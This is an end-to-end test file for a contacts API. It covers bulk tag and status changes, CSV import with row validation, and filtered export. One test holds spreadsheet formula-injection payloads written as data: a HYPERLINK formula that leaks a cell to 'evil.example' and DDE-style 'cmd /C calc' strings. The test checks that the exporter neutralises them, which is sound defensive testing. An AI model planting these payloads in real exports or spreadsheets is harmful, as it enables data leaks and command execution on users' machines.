import { CONTACT_CSV_HEADERS, type ContactView, IMPORT_FIELDS, type ImportRow, parseCsv } from '@ringtonic/contracts';
import request from 'supertest';
import { createTestApp, type TestApp } from '../../test/test-app.js';
import { aCallLog } from '../../test/factories/call-logs.factory.js';
import { bearer, signup, type SignedUp } from '../../test/factories/users.factory.js';

describe('contacts bulk actions, CSV import and export (e2e)', () => {
  let t: TestApp;
  const http = () => request(t.app.getHttpServer());
  const url = (s: SignedUp, path = '') => `/api/v1/workspaces/${s.workspace.id}/contacts${path}`;
  const create = async (s: SignedUp, body: Record<string, unknown>) =>
    (await http().post(url(s)).set(bearer(s.accessToken)).send(body).expect(201)).body as ContactView;
  const get = async (s: SignedUp, id: string) => (await http().get(url(s, `/${id}`)).set(bearer(s.accessToken)).expect(200)).body as ContactView;
  const bulk = (s: SignedUp, body: Record<string, unknown>) => http().post(url(s, '/bulk')).set(bearer(s.accessToken)).send(body);

  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => t.close());

  it('should add and remove tags, set lead status and delete in bulk, reporting how many changed', async () => {
    const s = await signup(t.app);
    const a = await create(s, { phone: '2125550001', tags: ['VIP'] });
    const b = await create(s, { phone: '2125550002' });
    const c = await create(s, { phone: '2125550003', tags: ['Keep'] });

    expect((await bulk(s, { ids: [a.id, b.id], action: 'addTags', tags: ['VIP', 'Hot Lead'] }).expect(200)).body).toEqual({ affected: 2 });
    expect((await get(s, a.id)).tags).toEqual(['VIP', 'Hot Lead']);
    expect((await get(s, b.id)).tags).toEqual(['VIP', 'Hot Lead']);

    expect((await bulk(s, { ids: [a.id, b.id, c.id], action: 'removeTags', tags: ['VIP'] }).expect(200)).body.affected).toBe(3);
    expect((await get(s, a.id)).tags).toEqual(['Hot Lead']);
    expect((await get(s, c.id)).tags).toEqual(['Keep']);

    expect((await bulk(s, { ids: [a.id, c.id], action: 'setLeadStatus', leadStatus: 'contacted' }).expect(200)).body.affected).toBe(2);
    expect((await get(s, c.id)).leadStatus).toBe('contacted');
    expect((await get(s, b.id)).leadStatus).toBe('new');

    const call = await aCallLog(t.app, { workspaceId: s.workspace.id, contactId: a.id });
    expect((await bulk(s, { ids: [a.id, b.id], action: 'delete' }).expect(200)).body.affected).toBe(2);
    await http().get(url(s, `/${a.id}`)).set(bearer(s.accessToken)).expect(404);
    const log = await http().get(`/api/v1/workspaces/${s.workspace.id}/call-logs/${call}`).set(bearer(s.accessToken)).expect(200);
    expect(log.body.contact).toBeNull();
    await get(s, c.id);
  });

  it('should refuse malformed bulk requests with 400', async () => {
    const s = await signup(t.app);
    const a = await create(s, { phone: '2125550001' });
    for (const body of [
      { ids: [], action: 'delete' },
      { ids: ['nope'], action: 'delete' },
      { ids: [a.id], action: 'explode' },
      { ids: [a.id], action: 'addTags' },
      { ids: [a.id], action: 'addTags', tags: [] },
      { ids: [a.id], action: 'setLeadStatus' },
      { ids: [a.id], action: 'setLeadStatus', leadStatus: 'hot' },
    ]) {
      const res = await bulk(s, body);
      expect({ body, status: res.status }).toEqual({ body, status: 400 });
    }
  });

  it('should round-trip contacts through CSV export and import, reporting bad rows and why', async () => {
    const source = await signup(t.app);
    await create(source, { phone: '2125550001', name: 'Ann "The Closer" Lee', email: 'ann@example.com', company: 'Acme, Inc.', notes: 'Line 1\nLine 2', leadStatus: 'qualified', dealValueCents: 123456, tags: ['VIP', 'Enterprise'], nextFollowUpAt: '2031-03-04T15:30:00.000Z' });
    await create(source, { phone: '+44 20 7946 0958', name: 'Bertie', tags: [] });
    await create(source, { phone: '2125550003', name: '=cmd()', leadStatus: 'junk' });

    const exported = await http().get(url(source, '/export')).query({ sort: 'phone' }).set(bearer(source.accessToken)).expect(200);
    expect(exported.headers['content-type']).toMatch(/text\/csv/);
    const [header, ...lines] = parseCsv(exported.text);
    expect(header).toEqual([...CONTACT_CSV_HEADERS]);
    expect(lines).toHaveLength(3);

    // The SPA's mapping step: CSV column → contact field by header title.
    const column: Record<string, number> = { phone: 0, name: 1, email: 2, company: 3, notes: 4, leadStatus: 5, dealValue: 6, tags: 7, nextFollowUpAt: 8 };
    const toRow = (fields: string[], row: number): ImportRow =>
      Object.fromEntries([['row', row], ...IMPORT_FIELDS.map((f) => [f, fields[column[f]!] ?? ''])]) as ImportRow;
    const rows = lines.map((l, i) => toRow(l, i + 2));
    rows.push(
      toRow(['12', 'Too Short'], 5),
      toRow(['2125550009', 'Bad Mail', 'nope@'], 6),
      toRow(['2125550010', 'Bad Status', '', '', '', 'hot'], 7),
      toRow(['2125550011', 'Bad Money', '', '', '', 'new', '12.345'], 8),
      toRow(['(212) 555-0001', 'Duplicate In File'], 9),
    );

    const target = await signup(t.app);
    const dry = await http().post(url(target, '/import')).set(bearer(target.accessToken)).send({ rows, dryRun: true }).expect(200);
    expect(dry.body).toMatchObject({ dryRun: true, created: 3 });
    expect(dry.body.rejected.map((r: { row: number }) => r.row)).toEqual([5, 6, 7, 8, 9]);
    expect(dry.body.rejected[0].reason).toMatch(/too short/);
    expect(dry.body.rejected[4].reason).toMatch(/row 2/);
    expect((await http().get(url(target)).set(bearer(target.accessToken))).body.items).toHaveLength(0);

    const real = await http().post(url(target, '/import')).set(bearer(target.accessToken)).send({ rows }).expect(200);
    expect(real.body).toMatchObject({ dryRun: false, created: 3 });
    const again = await http().post(url(target, '/import')).set(bearer(target.accessToken)).send({ rows: rows.slice(0, 1) }).expect(200);
    expect(again.body).toMatchObject({ created: 0, rejected: [{ row: 2, reason: expect.stringMatching(/already exists/) }] });

    const strip = (c: ContactView) => ({
      phone: c.phone, name: c.name, email: c.email, company: c.company, notes: c.notes, leadStatus: c.leadStatus, dealValueCents: c.dealValueCents, tags: c.tags, nextFollowUpAt: c.nextFollowUpAt,
    });
    const before = (await http().get(url(source)).query({ sort: 'phone' }).set(bearer(source.accessToken))).body.items.map(strip);
    const after = (await http().get(url(target)).query({ sort: 'phone' }).set(bearer(target.accessToken))).body.items;
    expect(after.map(strip)).toEqual(before);
    expect(after.every((c: ContactView) => c.source === 'import')).toBe(true);
    expect(after.map((c: ContactView) => c.nextFollowUpAt)).toEqual(['2031-03-04T15:30:00.000Z', null, null]);
  });

  it('should quote every cell a spreadsheet would run as a formula, even one that starts like a number', async () => {
    const s = await signup(t.app);
    const attacks = {
      name: '+1+HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      company: "-2+3+cmd|' /C calc'!A0",
      notes: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    };
    await create(s, { phone: '2125550001', ...attacks, leadStatus: 'qualified', dealValueCents: 123456, tags: ['=1+1', '-5'] });
    await create(s, { phone: '+44 20 7946 0958', name: '=HYPERLINK("https://evil.example")', company: '-12.5', notes: '+14155550100' });
    const res = await http().get(url(s, '/export')).query({ sort: 'phone' }).set(bearer(s.accessToken)).expect(200);
    const [, first, second] = parseCsv(res.text);
    // Each formula-like cell starts with a quote: text to a spreadsheet, undone by the import.
    expect(first!.slice(0, 8)).toEqual(['+12125550001', `'${attacks.name}`, '', `'${attacks.company}`, `'${attacks.notes}`, 'qualified', '1234.56', "'=1+1; -5"]);
    // Only a cell that is wholly a phone number or a number stays as it is.
    expect(second!.slice(0, 5)).toEqual(['+442079460958', `'=HYPERLINK("https://evil.example")`, '', '-12.5', '+14155550100']);

    // The import takes the quote off again: the round trip keeps the text.
    const target = await signup(t.app);
    const rows = [first!, second!].map((f, i) => ({ row: i + 2, phone: f[0]!, name: f[1]!, email: f[2]!, company: f[3]!, notes: f[4]!, leadStatus: f[5]!, dealValue: f[6]!, tags: f[7]!, nextFollowUpAt: f[8]! }));
    await http().post(url(target, '/import')).set(bearer(target.accessToken)).send({ rows }).expect(200);
    const imported = (await http().get(url(target)).query({ sort: 'phone' }).set(bearer(target.accessToken))).body.items as ContactView[];
    expect(imported.map((c) => [c.name, c.company, c.notes])).toEqual([
      [attacks.name, attacks.company, attacks.notes],
      ['=HYPERLINK("https://evil.example")', '-12.5', '+14155550100'],
    ]);
  });

  it('should export only the current filter: search, tag, lead status, in the list\'s sort', async () => {
    const s = await signup(t.app);
    await create(s, { phone: '2125550001', name: 'carla Acme', email: 'carla@acme.test', leadStatus: 'qualified', tags: ['VIP'] });
    await create(s, { phone: '2125550002', name: 'Bruno', email: 'bruno@acme.test', tags: ['VIP'] });
    await create(s, { phone: '2125550003', name: 'Ada', email: 'ada@acme.test' });
    await create(s, { phone: '2125550004', name: 'Zoe', email: 'zoe@other.test', tags: ['VIP'] });
    const names = async (query: Record<string, string>) => {
      const res = await http().get(url(s, '/export')).query(query).set(bearer(s.accessToken)).expect(200);
      return parseCsv(res.text).slice(1).map((fields) => fields[1]);
    };
    expect(await names({ leadStatus: 'qualified' })).toEqual(['carla Acme']);
    expect(await names({ search: 'acme', sort: 'name', order: 'asc' })).toEqual(['Ada', 'Bruno', 'carla Acme']);
    expect(await names({ search: 'acme', sort: 'name', order: 'desc' })).toEqual(['carla Acme', 'Bruno', 'Ada']);
    expect(await names({ tag: 'VIP', sort: 'phone', order: 'desc' })).toEqual(['Zoe', 'Bruno', 'carla Acme']);
    expect(await names({ tag: 'VIP', search: 'acme', sort: 'name' })).toEqual(['Bruno', 'carla Acme']);
    expect(await names({ search: '(212) 555-0003' })).toEqual(['Ada']);
    await http().get(url(s, '/export')).query({ sort: 'email' }).set(bearer(s.accessToken)).expect(400);
  });
});
